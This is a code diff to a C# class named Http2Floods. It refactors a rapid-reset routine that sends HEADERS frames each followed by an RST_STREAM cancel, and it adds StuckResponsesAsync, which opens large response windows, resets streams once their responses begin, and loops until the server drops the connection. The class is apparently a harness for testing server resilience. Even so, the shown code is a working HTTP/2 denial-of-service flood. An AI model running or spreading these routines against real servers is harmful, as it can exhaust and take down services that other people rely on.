@@ -80,7 +80,7 @@ public static class Http2Floods
         {
             for (var first = 0; first < requests; first += Batch)
             {
-                await client.SendAsync(Resets(request.Span, first), cancellationToken).ConfigureAwait(false);
+                await client.SendAsync(Resets(request, first), cancellationToken).ConfigureAwait(false);
             }
 
             await client.SendAsync(RawHttp2.Frame(RawHttp2.Ping, 0, 0, new byte[8]), cancellationToken).ConfigureAwait(false);
@@ -93,18 +93,49 @@ public static class Http2Floods
         return !await answered.ConfigureAwait(false);
     }
 
-    private static byte[] Resets(ReadOnlySpan<byte> request, int first)
+    /// <summary>Asks for responses of which the connection's window lets only the first begin, and takes each request back once its response has; returns once the server has ended the connection.</summary>
+    /// <param name="server">Where to.</param>
+    /// <param name="request">What is asked for, which has more than 64 KiB.</param>
+    /// <param name="batch">Requests at a time.</param>
+    /// <param name="cancellationToken">Gives it up.</param>
+    public static async Task StuckResponsesAsync(IPEndPoint server, ReadOnlyMemory<byte> request, int batch, CancellationToken cancellationToken)
+    {
+        // SETTINGS_INITIAL_WINDOW_SIZE of 1 MiB: the windows of the streams hold nothing back.
+        using var client = await RawHttp2.ConnectAsync(server, [0, 4, 0, 0x10, 0, 0], cancellationToken).ConfigureAwait(false);
+        try
+        {
+            for (var first = 0; ; first += batch)
+            {
+                await client.SendAsync(Each(first, batch, stream => RawHttp2.Frame(RawHttp2.Headers, RawHttp2.EndStream | RawHttp2.EndHeaders, stream, request.Span)), cancellationToken).ConfigureAwait(false);
+                for (var begun = 0; begun < batch;)
+                {
+                    if (await client.ReadAsync(cancellationToken).ConfigureAwait(false) is not { } frame)
+                    {
+                        return;
+                    }
+
+                    begun += frame.Type == RawHttp2.Headers ? 1 : 0;
+                }
+
+                await client.SendAsync(Each(first, batch, Reset), cancellationToken).ConfigureAwait(false);
+            }
+        }
+        catch (SocketException)
+        {
+            // That is the end.
+        }
+    }
+
+    private static byte[] Resets(ReadOnlyMemory<byte> request, int first) =>
+        Each(first, Batch, stream => [.. RawHttp2.Frame(RawHttp2.Headers, RawHttp2.EndStream | RawHttp2.EndHeaders, stream, request.Span), .. Reset(stream)]);
+
+    private static byte[] Reset(int stream)
     {
         const byte Cancel = 8;
-        List<byte> bytes = [];
-        for (var i = first; i < first + Batch; i++)
-        {
-            bytes.AddRange(RawHttp2.Frame(RawHttp2.Headers, RawHttp2.EndStream | RawHttp2.EndHeaders, 2 * i + 1, request));
-            bytes.AddRange(RawHttp2.Frame(RawHttp2.ResetStream, 0, 2 * i + 1, [0, 0, 0, Cancel]));
-        }
-
-        return [.. bytes];
+        return RawHttp2.Frame(RawHttp2.ResetStream, 0, stream, [0, 0, 0, Cancel]);
     }
+
+    private static byte[] Each(int first, int count, Func<int, byte[]> frames) => [.. Enumerable.Range(first, count).SelectMany(number => frames(2 * number + 1))];
 
     private static byte[] Repeat(ReadOnlySpan<byte> frame)
     {
